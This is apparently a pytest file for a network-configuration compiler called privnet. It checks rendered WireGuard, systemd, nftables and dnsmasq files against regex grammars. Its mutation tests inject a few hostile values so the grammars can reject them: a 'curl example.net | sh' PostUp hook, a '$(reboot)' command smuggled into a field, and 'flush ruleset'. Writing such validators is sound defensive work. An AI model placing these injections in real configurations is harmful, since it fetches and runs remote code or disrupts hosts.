"""Every rendered file obeys the grammar of who reads it, with only the keys that we mean to set.

The grammars are written here again, by hand: a template that says something new says it here too.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path, PurePosixPath

import pytest

from privnet.compiler import compile_fleet, render_fleet
from privnet.render import ManagedFile

GOLDEN = Path(__file__).parents[2] / "golden"
UUID = "[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}"
OCTET = "(25[0-5]|2[0-4][0-9]|1[0-9]{2}|[1-9]?[0-9])"
V4 = rf"{OCTET}([.]{OCTET}){{3}}"
MAC = "02(:[0-9a-f]{2}){5}"
LABEL = "[a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?"
SLOT = rf"[1-9][0-9]*[.]{LABEL}[.]ap-{UUID}"
PORT = "pnc[0-9a-f]{10}"
NAME = rf"{LABEL}([.]{LABEL})+"
NUMBER = "[1-9][0-9]*"
UNIT = r"[a-z0-9@%.-]+[.](service|socket|target)"

Sections = dict[str, dict[str, str]]


# --- key = value files ----------------------------------------------------------------------------


def ini(sections: Sections, *, separator: str = "=") -> Callable[[str], None]:
    """Sections in brackets, each key with the pattern of its value; a key may come once in a section."""

    def check(text: str) -> None:
        keys: dict[str, str] = {}
        seen: set[str] = set()
        for line in content(text):
            if line.startswith("["):
                keys, seen = sections[line.strip("[]")], set()
                continue
            key, mark, value = line.partition(separator)
            assert mark, line
            assert key in keys, f"unknown key: {line}"
            assert key not in seen or key in REPEATED, f"twice: {line}"
            seen.add(key)
            assert re.fullmatch(keys[key], value), f"wrong value: {line}"

    return check


REPEATED = {"ListenDatagram", "ListenStream", "ExecStart", "ExecStartPost", "ExecReload", "SystemCallFilter"}


def content(text: str) -> Iterator[str]:
    """The lines that say something; no line has blanks at its end, the last one ends."""
    assert text.endswith("\n") or text == ""
    for line in text.splitlines():
        assert line == line.rstrip()
        assert line.isascii()
        if line and not line.startswith("#"):
            yield line


WIREGUARD: Sections = {
    "Interface": {
        "Address": rf"{V4}/{NUMBER}",
        "ListenPort": NUMBER,
        "MTU": NUMBER,
        "Table": "off",
    },
    "Peer": {
        "PublicKey": "[A-Za-z0-9+/]{43}=",
        "Endpoint": rf"({V4}|\[[0-9a-f:]+\]):{NUMBER}",
        "AllowedIPs": rf"{V4}/32",
        "PersistentKeepalive": "off",
    },
}
BRIDGE: Sections = {
    "NetDev": {"Name": f"pnb{NUMBER}", "Kind": "bridge", "MACAddress": MAC},
    "Bridge": {"STP": "no", "MulticastSnooping": "no"},
}
BRIDGE_NETWORK: Sections = {
    "Match": {"Name": f"pnb{NUMBER}"},
    "Link": {"MTUBytes": NUMBER, "RequiredForOnline": "no"},
    "Network": {
        "ConfigureWithoutCarrier": "yes",
        "IgnoreCarrierLoss": "yes",
        "LinkLocalAddressing": "no",
        "IPv6AcceptRA": "no",
        "LLMNR": "no",
        "MulticastDNS": "no",
        "LLDP": "no",
    },
}
VXLAN: Sections = {
    "NetDev": {"Name": f"pnx{NUMBER}", "Kind": "vxlan", "MACAddress": MAC, "MTUBytes": NUMBER},
    "VXLAN": {
        "VNI": NUMBER,
        "Local": V4,
        "DestinationPort": NUMBER,
        "PortRange": f"{NUMBER}-{NUMBER}",
        "Independent": "yes",
        "MacLearning": "no",
        "ReduceARPProxy": "yes",
    },
}
UNMANAGED: Sections = {"Match": {"Name": rf"(pnx{NUMBER}|privnet( pn[a-z][*])+)"}, "Link": {"Unmanaged": "yes"}}
NETWORKD: Sections = {"Network": {"ManageForeignRoutingPolicyRules": "no", "ManageForeignRoutes": "no"}}
UNIT_LIST = rf"{UNIT}( {UNIT})*"
PROGRAM = r"-?!?/bin/sh /etc/privnet/lib/[a-z]+[.]sh [a-z]+( %i)?( [$]MAINPID)?"
FORWARDER = r"/usr/bin/perl /etc/privnet/lib/forwarder[.]pl( [0-9a-f.:]+#[0-9]+)+"
RESTORE = "/bin/sh /var/lib/privnet/armed/change[.]sh boot"
SANDBOX = (
    "NoNewPrivileges", "ProtectHome", "PrivateTmp", "PrivateDevices", "ProtectKernelModules", "ProtectKernelLogs",
    "ProtectKernelTunables", "ProtectControlGroups", "ProtectClock", "ProtectHostname", "RestrictRealtime",
    "PrivateNetwork", "RestrictSUIDSGID", "LockPersonality", "MemoryDenyWriteExecute",
)  # fmt: skip
CAPABILITIES = (
    "CAP_NET_BIND_SERVICE|CAP_SYS_ADMIN|CAP_NET_ADMIN( CAP_SYS_ADMIN)?|CAP_CHOWN CAP_FOWNER CAP_DAC_OVERRIDE|"
)
SYSTEMD: Sections = {
    "Unit": {
        "Description": r"privnet [a-z]+.*",
        "DefaultDependencies": "no",
        **dict.fromkeys(("After", "Before", "Wants", "Requires", "BindsTo", "PartOf", "Conflicts"), UNIT_LIST),
        "ReloadPropagatedFrom": UNIT_LIST,
        "StartLimitIntervalSec": "0",
        "RequiresMountsFor": "/etc /var/lib/privnet",
        "ConditionPathIsDirectory": "/var/lib/privnet/armed",
    },
    "Service": {
        "Type": "oneshot|exec|forking",
        "RemainAfterExit": "yes",
        "ExecStart": rf"({PROGRAM}|{RESTORE}|/usr/sbin/dnsmasq( --[a-z-]+(=[^ ]*)?)+|{FORWARDER})?",
        **dict.fromkeys(("ExecStartPre", "ExecReload", "ExecStop", "ExecStartPost"), PROGRAM),
        "ExecStopPost": f"{PROGRAM}|[+]/bin/sleep 0[.]2",
        "Restart": "always|on-failure",
        "RestartSec": "[25]00ms",
        "OOMScoreAdjust": "-1000",
        "RuntimeDirectory": "privnet",
        "RuntimeDirectoryPreserve": "yes",
        "DynamicUser": "yes",
        "NetworkNamespacePath": "/run/netns/%i",
        "AmbientCapabilities": "CAP_NET_BIND_SERVICE",
        "CapabilityBoundingSet": CAPABILITIES,
        "DevicePolicy": "closed",
        "DeviceAllow": "/dev/net/tun rw",
        "ReadWritePaths": "(/etc /var/lib/privnet )?/run|-/run/privnet",
        "ProtectSystem": "strict",
        "ProtectProc": "invisible",
        "ProcSubset": "pid",
        **dict.fromkeys(SANDBOX, "yes"),
        "RestrictNamespaces": "yes|net",
        "RestrictAddressFamilies": "none|(AF_INET AF_INET6 )?AF_NETLINK AF_UNIX|AF_INET AF_INET6",
        "SystemCallArchitectures": "native",
        "SystemCallFilter": "@system-service|~@resources @privileged|@chown|mount umount2"
        "|~setfsuid:EPERM setfsgid:EPERM",
        "PrivateMounts": "no",
        "Environment": "LIBMOUNT_FORCE_MOUNT2=always",
        "SystemCallErrorNumber": "EPERM",
        "UMask": "0077",
        "IPAddressAllow": "[0-9a-f.:]+( [0-9a-f.:]+)*",
        "IPAddressDeny": "any",
        "LimitNOFILE": NUMBER,
    },
    "Socket": {
        **dict.fromkeys(("ListenDatagram", "ListenStream"), "127[.]0[.]0[.][0-9]+:53"),
        "NetworkNamespacePath": "/run/netns/%i",
        "BindToDevice": "lo",
    },
    "Install": {"WantedBy": UNIT_LIST},
}
GUARD_CONF = {"MESH": rf"{V4}/{NUMBER}"}
OVERLAY_CONF = {"BRIDGE": f"pnb{NUMBER}", "BRIDGE_MAC": MAC, "VXLAN": f"pnx{NUMBER}", "MTU": NUMBER}
PORT_CONF = {
    "NETNS": rf"({SLOT}|pn-{UUID})",
    "BRIDGE": f"pnb{NUMBER}",
    "ADDRESS": rf"{V4}/{NUMBER}",
    "MAC": MAC,
    "HOST_MAC": MAC,
    "MTU": NUMBER,
}
DNSMASQ = {
    "port": "53",
    "listen-address": V4,
    "local": rf"/{NAME}/",
    "local-ttl": NUMBER,
    "addn-hosts": rf"/etc/privnet/names/pn-{UUID}[.]hosts",
    "max-tcp-connections": NUMBER,
    "cache-size": "0",
    "server": r"127[.]0[.]0[.][0-9]+",
    "rebind-domain-ok": rf"/{LABEL}([.]{LABEL})*/",
    **dict.fromkeys(("bind-dynamic", "no-hosts", "no-resolv", "no-ident"), ""),
    **dict.fromkeys(("bogus-priv", "stop-dns-rebind"), ""),
    "bogus-nxdomain": rf"{V4}/[0-9]+|::ffff:{V4}/[0-9]+",
}


def shell(keys: dict[str, str]) -> Callable[[str], None]:
    """Assignments that a shell reads: no value needs quotes."""

    def check(text: str) -> None:
        found = [line.partition("=") for line in content(text)]
        assert [key for key, *_ in found] == [key for key in keys if key in {key for key, *_ in found}]
        for key, _, value in found:
            assert re.fullmatch(keys[key], value), f"{key}={value}"
            assert re.fullmatch("[a-z0-9.:/-]*", value), "needs no quotes"

    return check


def dnsmasq(text: str) -> None:
    for line in content(text):
        key, _, value = line.partition("=")
        assert re.fullmatch(DNSMASQ[key], value), line


def lines(pattern: str) -> Callable[[str], None]:
    def check(text: str) -> None:
        for line in content(text):
            assert re.fullmatch(pattern, line), line

    return check


HOSTS_LINE = rf"({V4} {SLOT}[.]{NAME}( {NAME}){{1,2}}|100::( _[.]{NAME})+)"
FDB_LINE = rf"fdb replace {MAC} dev pnx{NUMBER} dst {V4} self static"
NEIGHBOUR_LINE = rf"neighbour replace {V4} lladdr {MAC} dev pnx{NUMBER} nud permanent"
RESOLV_LINE = rf"(nameserver {V4}|options timeout:2 attempts:3)"

SPEAKER = rf"\t\t\t{V4} [.] 0x[0-9a-f]{{6}}00 [.] 0x[0-9a-f]{{8}} [.] 0x[0-9a-f]{{8}},?"
BINDING = rf'\t\t\t"{PORT}" [.] {MAC} [.] {V4},?'
HOOK = "type filter hook [a-z]+ priority -300; policy accept;"
VERDICT = r"\b(accept|drop|notrack|jump [a-z]+)\b( comment \"[^\"]+\")?$"


def nftables(text: str) -> None:
    """Two own tables with an owner, each declared, deleted and filled in one file; nothing else is touched."""
    body = list(content(text))
    tables = [line for line in body if re.match("[a-z]", line)]
    for family in ("inet", "bridge"):
        name = f"table {family} privnet"
        at = tables.index(f"{name} {{ flags owner; }}")
        assert tables[at + 1 : at + 3] == [f"delete {name}", f"{name} {{"]
        assert body[body.index(f"{name} {{") + 1] == "\tflags owner"
    assert len(tables) == 6
    assert text.count("{") == text.count("}")
    for line in (line for line in body if line.startswith("\t\t\t")):
        assert re.fullmatch(f"{SPEAKER}|{BINDING}", line), line
    for chain in re.findall(r"\tchain [a-z]+ \{\n(.*?)\n\t\}", text, re.DOTALL):
        for line in chain.splitlines():
            assert re.match(rf"\t\t({HOOK}|.*{VERDICT})", line), line


WORD = "[A-Za-z0-9][A-Za-z0-9@.%:/#_-]*"
IN_PROJECT = rf"project|private_network/.+|applications/ap-{UUID}/(hds|formation/.+)"
RECORD = {
    r"/version": "1",
    r"/fleet/(fleet|domain|lab|((wireguard|vxlan|network|dns|policy)/.+))": rf"{WORD}|True",
    r"/host/(name|mesh|declared/(address|endpoint|zone|mtu|ssh/(user|port)))": r"[0-9a-z.:\[\]_-]+",
    rf"/networks/pn-{UUID}/(vni|cidr|mtu)": "[0-9./]+",
    rf"/networks/pn-{UUID}/containers/ap-{UUID}/{LABEL}/[0-9]+": rf"{V4} {LABEL}",
    rf"/networks/pn-{UUID}/hosts/{LABEL}": rf"{V4} ({V4}|\[[0-9a-f:]+\]):{NUMBER}",
    rf"/networks/pn-{UUID}/out/[0-9]+": LABEL,
    rf"/networks/pn-{UUID}/project/({IN_PROJECT})": f"{WORD}|True",
    rf"/networks/pn-{UUID}/project/applications/ap-{UUID}/name": ".+",
    rf"/networks/pn-{UUID}/project/private_network/(terms/(accepted_by|version)|[a-z_]+/by)": ".+",
    r"/fleet/policy/hds_allowed/by": ".+",
}


def record(text: str) -> None:
    """JSON of which each value has a known path and shape; keys are sorted, so equal records are equal bytes."""
    assert text.isascii()
    assert text.endswith("}\n")
    for path, value in leaves(json.loads(text, object_pairs_hook=in_order), ""):
        assert [p for p, shape in RECORD.items() if re.fullmatch(p, path) and re.fullmatch(shape, value)], path


def in_order(pairs: list[tuple[str, object]]) -> dict[str, object]:
    names = [name for name, _ in pairs]
    assert names == sorted(set(names)) or names == ["version", "fleet", "host", "networks"] or names[0][:3] == "pn-"
    return dict(pairs)


def leaves(value: object, path: str) -> Iterator[tuple[str, str]]:
    if isinstance(value, dict | list):
        for key, item in value.items() if isinstance(value, dict) else enumerate(value):
            yield from leaves(item, f"{path}/{key}")
    else:
        yield path, str(value)


GRAMMARS: tuple[tuple[str, Callable[[str], None]], ...] = (
    (r"/etc/privnet/mesh[.]conf", ini(WIREGUARD, separator=" = ")),
    (r"/etc/privnet/record[.]json", record),
    (r"/etc/privnet/guard[.]nft", nftables),
    (r"/etc/privnet/guard[.]conf", shell(GUARD_CONF)),
    (r"/etc/privnet/neighbour-table[.]conf", shell({"IPV4": NUMBER, "IPV6": NUMBER})),
    (rf"/etc/privnet/overlay/{NUMBER}[.]conf", shell(OVERLAY_CONF)),
    (rf"/etc/privnet/overlay/{NUMBER}[.]fdb", lines(FDB_LINE)),
    (rf"/etc/privnet/overlay/{NUMBER}[.]neighbours", lines(NEIGHBOUR_LINE)),
    (rf"/etc/privnet/containers/{PORT}[.]conf", shell(PORT_CONF)),
    (rf"/etc/privnet/names/pn-{UUID}[.]conf", dnsmasq),
    (rf"/etc/privnet/names/pn-{UUID}[.]hosts", lines(HOSTS_LINE)),
    (rf"/etc/netns/{SLOT}/resolv[.]conf", lines(RESOLV_LINE)),
    (rf"/etc/systemd/network/05-privnet-{NUMBER}-bridge[.]netdev", ini(BRIDGE)),
    (rf"/etc/systemd/network/05-privnet-{NUMBER}-bridge[.]network", ini(BRIDGE_NETWORK)),
    (rf"/etc/systemd/network/05-privnet-{NUMBER}-vxlan[.]netdev", ini(VXLAN)),
    (rf"/etc/systemd/network/05-privnet-{NUMBER}-vxlan[.]network", ini(UNMANAGED)),
    (r"/etc/systemd/network/05-privnet-unmanaged[.]network", ini(UNMANAGED)),
    (r"/etc/systemd/networkd[.]conf[.]d/privnet[.]conf", ini(NETWORKD)),
    (
        rf"/etc/systemd/system/privnet-(dns@pn-{UUID}[.]service|forwarder@pn-{UUID}[.]socket)[.]d/port[.]conf",
        ini(SYSTEMD),
    ),
    (r"/etc/systemd/system/privnet-[a-z-]+@?[.](service|socket|target)", ini(SYSTEMD)),
    (r"/etc/systemd/system/wg-quick@privnet[.]service[.]d/privnet[.]conf", ini(SYSTEMD)),
    # Programs: read by shellcheck, by tests of their own, and by real hosts.
    (r"/etc/privnet/lib/([a-z-]+[.]sh|forwarder[.]pl)", lambda text: None),
)
LINK = r"/etc/systemd/system/privnet-networks[.]target[.]wants/privnet-[a-z0-9@-]+[.](service|socket)"


def every_file() -> dict[str, ManagedFile]:
    """All files of all golden fleets, by fleet, host and path."""
    return {
        f"{case.name}:{host}:{file.path}": file
        for case in sorted(GOLDEN.iterdir())
        if (case / "in").is_dir()
        for host, files in render_fleet(compile_fleet(case / "in").plan).items()
        for file in files
    }


FILES = every_file()


def test_each_file_has_a_grammar_and_obeys_it() -> None:
    used: set[str] = set()
    for name, file in FILES.items():
        if file.is_link:
            assert re.fullmatch(LINK, file.path), file.path
            continue
        found = [(pattern, check) for pattern, check in GRAMMARS if re.fullmatch(pattern, file.path)]
        assert len(found) == 1, f"{name}: {len(found)} grammars"
        used.add(found[0][0])
        try:
            found[0][1](file.text)
        except KeyError as error:
            pytest.fail(f"{name}: unknown key or section {error}")
        except AssertionError as error:
            pytest.fail(f"{name}: {error}")
    assert used == {pattern for pattern, _ in GRAMMARS}, "a grammar that no golden fleet tries"


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        ("mesh.conf", "Table = off", "Table = off\nPostUp = curl example.net | sh"),
        ("mesh.conf", "Table = off", "Table = auto"),
        ("mesh.conf", "Table = off", "Table = off\nPrivateKey = secret"),
        ("guard.nft", "delete table inet privnet", "flush ruleset"),
        ("guard.nft", "\tflags owner\n", ""),
        ("guard.nft", '"pnc', '"eth'),
        ("bridge.network", "LLMNR=no", "Address=10.0.0.1/8"),
        ("guard.service", "Type=exec", "Type=exec\nType=simple"),
        (".hosts", "10.", "300."),
        (".conf", "NETNS=", "NETNS=$(reboot)"),
        ("resolv.conf", "nameserver", "search example.net\nnameserver"),
        ("record.json", '"vni": ', '"private_key": "x", "vni": '),
        ("record.json", '"fleet": {', '"fleet": {"zone": "a", '),
    ],
)
def test_the_grammars_see_what_does_not_belong(path: str, old: str, new: str) -> None:
    file = next(file for file in FILES.values() if file.path.endswith(path) and old in file.text)
    check = next(check for pattern, check in GRAMMARS if re.fullmatch(pattern, file.path))
    check(file.text)
    with pytest.raises((AssertionError, KeyError)):
        check(file.text.replace(old, new, 1))


def test_links_lead_to_units_that_are_there() -> None:
    for name, file in FILES.items():
        if file.is_link:
            case, host, path = name.split(":", 2)
            parts: list[str] = []
            for part in (PurePosixPath(path).parent / file.text).parts:
                parts = parts[:-1] if part == ".." else [*parts, part]
            assert f"{case}:{host}:/{'/'.join(parts[1:])}" in FILES


def test_no_file_has_a_secret_or_could_be_written_by_others() -> None:
    for name, file in FILES.items():
        assert file.path.startswith("/etc/privnet/lib/") or "PrivateKey" not in file.text, name
        assert file.mode in (0, 0o644), name


def test_paths_are_ours() -> None:
    """Everything that is removed one day is found by these prefixes."""
    ours = re.compile(r"/etc/(privnet|netns)/|/etc/systemd/(network/\d\d-|networkd[.]conf[.]d/|system/)privnet")
    drop_in = "/etc/systemd/system/wg-quick@privnet.service.d/privnet.conf"
    assert all(ours.match(file.path) or file.path == drop_in for file in FILES.values())


def test_paths_are_unique_and_sorted() -> None:
    by_host: dict[str, list[str]] = {}
    for name, file in FILES.items():
        by_host.setdefault(name.rpartition(":")[0], []).append(file.path)
    for paths in by_host.values():
        assert paths == sorted(set(paths))
